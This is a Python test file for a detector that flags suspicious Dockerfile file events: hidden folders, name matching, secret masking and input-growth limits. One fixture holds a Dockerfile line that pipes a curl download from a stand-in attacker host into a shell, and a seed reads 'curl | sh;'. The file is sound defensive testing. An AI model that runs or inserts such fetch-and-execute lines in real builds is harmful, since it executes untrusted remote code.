"""Whole file events: names, places, writers and contents."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core.facts.file import FIELDS, SIGNALS, facts, is_dockerfile
from t1612core.knowledge.containerfiles import BEGINS, ENDS, NAMES, PREFIXES, SUFFIXES, VARIANTS
from t1612core.knowledge.signals.file import SIGNALS as PLACES
from t1612core.telemetry.schemas.mde import MDE

from .network.test_growth import LIMIT, MIB, growth

VECTORS: list[dict[str, Any]] = json.loads(
    Path(__file__).with_name("vectors").joinpath("file_facts.json").read_text("utf-8")
)
TEXTS = st.one_of(
    st.none(),
    st.text(),
    st.sampled_from(["/tmp/Dockerfile", "C:\\.x .\\Dockerfile", "/dev/shm/.x/", "bash", "docker"]),
)


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["id"])
def test_vector(vector: dict[str, Any]) -> None:
    found = [fact.signal for fact in facts(vector["values"])]

    assert sorted(vector["expected"]) == sorted(found)
    assert vector.get("nearly") not in vector["expected"]


@pytest.mark.parametrize("id", [signal.id for signal in PLACES])
def test_every_signal_has_a_vector_that_fires_and_one_that_nearly_does(id: str) -> None:
    assert any(id in vector["expected"] for vector in VECTORS)
    assert any(id == vector.get("nearly") for vector in VECTORS)


@given(
    st.sampled_from(["Dockerfile", "a.containerfile", "DOCKERFILE-x", "ſ.dockerfile"]),
    st.fixed_dictionaries({}, optional={field: TEXTS for field in FIELDS if field != "name"}),
)
def test_any_text_is_taken_and_facts_point_at_it(name: str, values: dict[str, Any]) -> None:
    """What is shown of a content has its secrets masked and is on one line: it may differ."""
    found = facts({"name": name, **values})

    assert len(found) == len({fact.signal for fact in found})
    for fact in found:
        assert fact.signal in SIGNALS
        assert fact.field in FIELDS
        if fact.span is not None and fact.field != "content":
            assert fact.text == values[fact.field][slice(*fact.span)]


@given(st.text())
def test_any_name_is_taken(name: str) -> None:
    assert is_dockerfile(name) in (True, False)
    assert facts({"name": name}) == ()


def test_the_schema_has_every_field_that_is_read() -> None:
    assert set(FIELDS) <= set(MDE.fields["file"])


def test_a_hidden_directory_is_pointed_at() -> None:
    (fact,) = facts({"name": "Dockerfile", "folder": "/opt/.x/Dockerfile"})

    assert (".x", (5, 7)) == (fact.text, fact.span)


def test_no_secret_of_a_content_is_shown() -> None:
    content = "FROM a\nRUN curl -u me:hush http://evil.example/x | sh\n"
    found = facts({"name": "Dockerfile", "content": content})

    assert found
    assert "hush" not in " ".join(fact.text for fact in found)


def test_names_are_in_lower_case_and_cheap_to_gate_by() -> None:
    """Whatever is a Dockerfile begins or ends as the lists say."""
    lists: tuple[str, ...] = (*NAMES, *PREFIXES, *SUFFIXES, *VARIANTS)
    lists += tuple(end for _, ends in (*ENDS, *BEGINS) for end in ends)

    assert [text.lower() for text in lists] == list(lists)
    assert all(why for why, _ in (*ENDS, *BEGINS))
    for vector in VECTORS:
        name = (vector["values"]["name"] or "").lower()
        gate = name.startswith((*NAMES, *PREFIXES, *VARIANTS)) or name.endswith(SUFFIXES)
        assert gate or not is_dockerfile(name)


def test_a_name_longer_than_any_file_system_has_is_none() -> None:
    assert is_dockerfile("Dockerfile." + "x" * 244)
    assert not is_dockerfile("Dockerfile." + "x" * 245)


@pytest.mark.growth
@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize(
    "seed", ["Dockerfile", "/.x", "\\.x", "/tmp/", "RUN a\n", " ", "curl | sh;"]
)
def test_time_grows_with_the_text(field: str, seed: str) -> None:
    def read(text: str) -> object:
        return facts({"name": "Dockerfile", "folder": "/tmp", field: text})

    assert growth(read, MIB, seed) <= LIMIT


@pytest.mark.growth
@pytest.mark.parametrize("seed", ["http://203.0.113.9/a ", "git@203.0.113.9:a ", "://", "@ ", '"@'])
def test_time_grows_with_the_line_of_who_fetched(seed: str) -> None:
    def read(text: str) -> object:
        return facts({"name": "Dockerfile", "parent_name": "git", "parent_line": text})

    assert growth(read, MIB, seed) <= LIMIT
